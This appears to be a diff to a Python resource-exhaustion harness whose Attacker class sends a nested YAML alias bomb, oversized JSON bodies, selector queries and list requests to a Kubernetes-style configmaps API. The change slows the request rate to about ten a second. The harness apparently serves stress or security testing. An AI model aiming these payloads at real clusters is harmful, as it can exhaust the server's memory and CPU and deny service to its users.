@@ -24,6 +24,8 @@ GET = b"GET /livez HTTP/1.1\r\nHost: x\r\n"
 MAPS = b"/api/v1/namespaces/default/configmaps"
 POST = b"POST " + MAPS + b"?dryRun=All HTTP/1.1\r\nHost: x\r\nContent-Type: "
 Line: TypeAlias = tuple[asyncio.StreamReader, asyncio.StreamWriter]
+PAUSE = 0.1
+"""Between requests that take the server's time: about ten a second. Without a pause they would be load, and no attack."""
 ALIASES = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
     b"%c: &%c [%b]\n" % (letter, letter, b",".join([b"*%c" % (letter - 1)] * 9)) for letter in range(98, 112)
 )
@@ -179,18 +181,18 @@ class Attacker:
             media, body = next(bombs)
             await self.ask(line, POST + b"%b\r\nContent-Length: %d\r\n\r\n" % (media, len(body)) + body)
 
-        await self.again(0.02, once)
+        await self.again(PAUSE, once)
 
     async def large_bodies(self, ready: Callable[[], None]) -> None:
         line = await self.line(known=True)
         ready()
         request = POST + b"application/json\r\nContent-Length: %d\r\n\r\n" % len(LARGE) + LARGE
-        await self.again(0.02, lambda: self.ask(line, request))
+        await self.again(PAUSE, lambda: self.ask(line, request))
 
     async def selectors(self, ready: Callable[[], None]) -> None:
         line, selectors = await self.line(known=True), itertools.cycle(SELECTORS)
         ready()
-        await self.again(0.02, lambda: self.ask(line, b"GET %b?%b HTTP/1.1\r\nHost: x\r\n\r\n" % (MAPS, next(selectors))))
+        await self.again(PAUSE, lambda: self.ask(line, b"GET %b?%b HTTP/1.1\r\nHost: x\r\n\r\n" % (MAPS, next(selectors))))
 
     async def unread_lists(self, ready: Callable[[], None]) -> None:
         ask = b"GET /api/v1/namespaces/large/configmaps HTTP/1.1\r\nHost: x\r\n\r\n"
